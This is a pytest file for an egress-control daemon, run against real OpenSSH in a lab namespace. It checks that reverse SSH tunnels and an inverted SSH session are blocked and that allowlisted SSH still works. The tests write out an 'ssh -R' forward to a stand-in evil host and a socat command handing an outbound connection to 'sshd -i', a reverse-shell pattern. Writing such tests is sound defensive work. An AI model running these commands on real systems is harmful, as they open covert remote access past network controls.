"""The live daemon against OpenSSH: reverse tunnels die at once, allowed SSH keeps working.

Real ``ssh``/``sshd`` (keys generated per run) in the lab, ``egressd run`` on the shipped
default policy in the node namespace. Each test checks what the program saw *and* the
event that explains it.
"""

from __future__ import annotations

import subprocess

import pytest
from daemon_fixtures import NEEDS_KERNEL, DaemonLab, one_event

from egressd_lab import peers
from egressd_lab.netns import NODE_LOCAL_V4, SERVICES

pytestmark = NEEDS_KERNEL
pytest_plugins = ["conftest_daemon"]

EVIL = SERVICES["ssh_evil"][0]
ALLOWED = SERVICES["ssh_allowed"][0]
NAMED = SERVICES["ssh_named"][0]


@pytest.mark.parametrize("port", [22, 443])
def test_ssh_remote_forward_to_an_unlisted_server_fails_within_seconds(
    dlab: DaemonLab, daemon: peers.Egressd, port: int
) -> None:
    # The forward's target is the node's own address (the lab's stand-in for 127.0.0.1): only
    # the client knows it, the request on the wire is the same whatever it is.
    fwd = f"2222:{NODE_LOCAL_V4}:22"
    argv = dlab.peers.ssh(EVIL, options=["-N", "-R", fwd, "-o", "ExitOnForwardFailure=yes"], port=port)
    p, took = dlab.run(argv, timeout=30)
    assert p.returncode != 0, p.stderr
    assert took < 10.0, f"ssh -R took {took:.2f} s to fail"
    assert not peers.listening(dlab.lab, "inet", 2222), "the remote forward was set up"
    ev = one_event(daemon, EVIL, port)
    assert (ev["rule"], ev["action"], ev["detection"]["kind"]) == ("drop-ssh-unlisted", "blocked", "ssh")
    assert "SSH-2.0-OpenSSH" in ev["detection"]["evidence"]


def test_ssh_command_to_the_allowlisted_bastion_runs(dlab: DaemonLab, daemon: peers.Egressd) -> None:
    p, _ = dlab.run(dlab.peers.ssh(ALLOWED, "echo", "bastion-ok"))
    assert (p.returncode, p.stdout.strip()) == (0, "bastion-ok"), p.stderr
    ev = one_event(daemon, ALLOWED, 22)
    assert (ev["action"], ev["detection"]["kind"]) == ("allowed", "ssh")


def test_ssh_to_a_name_in_ssh_allowed_names_runs_via_the_dns_answer_the_daemon_saw(
    dlab: DaemonLab, daemon: peers.Egressd
) -> None:
    look, _ = dlab.run(["dig", "+short", "+time=1", "+tries=1", f"@{SERVICES['dns'][0]}", "git.example.org"])
    assert look.stdout.strip() == NAMED, look.stdout + look.stderr
    p, _ = dlab.run(dlab.peers.ssh(NAMED, "echo", "git-ok"))
    assert (p.returncode, p.stdout.strip()) == (0, "git-ok"), p.stderr
    ev = one_event(daemon, NAMED, 22)
    assert (ev["action"], ev["domain"], ev["detection"]["kind"]) == ("allowed", "git.example.org", "ssh")


def test_ssh_to_the_named_host_without_a_lookup_is_dropped(dlab: DaemonLab, daemon: peers.Egressd) -> None:
    # The same address, but this daemon never saw a DNS answer naming it: not on any allowlist.
    p, took = dlab.run(dlab.peers.ssh(NAMED, "echo", "git-ok"))
    assert p.returncode != 0 and "git-ok" not in p.stdout
    assert took < 10.0
    ev = one_event(daemon, NAMED, 22)
    assert (ev["rule"], ev["action"]) == ("drop-ssh-unlisted", "blocked")


def test_node_serving_ssh_over_its_own_outbound_connection_is_dropped_as_reverse(
    dlab: DaemonLab, daemon: peers.Egressd
) -> None:
    # Outside: an ssh client whose transport is whatever connects to 203.0.113.10:443 (an
    # allowlisted address, so only the role inversion can be the reason for a drop).
    # Node: socat dials out and hands the connection to `sshd -i`, a reverse shell's pattern.
    out = dlab.tmp / "inverted-ssh.out"
    with open(out, "wb") as fh:
        listener = dlab.lab.spawn(
            "inet",
            dlab.peers.ssh("node", "echo", "reverse-ok", options=["-o", f"ProxyCommand=ncat -l {ALLOWED} 443"]),
            stdin=subprocess.DEVNULL,
            stdout=fh,
            stderr=subprocess.STDOUT,
        )
    try:
        peers.wait_listening(dlab.lab, "inet", [(ALLOWED, 443)])
        p, took = dlab.run(["socat", f"TCP:{ALLOWED}:443", "EXEC:" + " ".join(dlab.peers.sshd.inetd_argv())])
        assert took < 10.0
        ev = one_event(daemon, ALLOWED, 443)
    finally:
        dlab.lab.stop(listener)
    assert "reverse-ok" not in out.read_text()
    # sshd -i never got to authentication. The drop is decided on a reply (the outside
    # client's banner), and since issue 8 the daemon also aborts the node's local socket
    # (SOCK_DESTROY): either sshd logs the cut [preauth], or socat's read fails first with
    # ECONNABORTED and takes sshd down before it can log — the same cut, seen from one side.
    assert "[preauth]" in p.stderr or "Software caused connection abort" in p.stderr, p.stderr
    assert (ev["rule"], ev["action"], ev["detection"]["kind"]) == ("drop-reverse-ssh", "blocked", "ssh.reverse")
    assert ev["detection"]["info"]["role"] == "inverted"
